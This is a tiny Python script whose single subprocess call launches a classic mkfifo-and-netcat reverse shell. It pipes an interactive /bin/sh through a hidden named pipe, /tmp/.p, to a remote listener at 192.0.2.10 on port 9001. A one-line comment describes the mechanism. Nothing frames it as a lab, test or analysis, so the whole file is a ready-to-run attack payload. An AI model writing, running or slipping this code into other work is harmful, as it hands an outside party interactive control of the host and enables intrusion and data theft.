import subprocess

# A named pipe carries a shell's input and output to and from a remote netcat.
subprocess.Popen(
    "rm -f /tmp/.p; mkfifo /tmp/.p; cat /tmp/.p | /bin/sh -i 2>&1 | nc 192.0.2.10 9001 > /tmp/.p",
    shell=True,
)
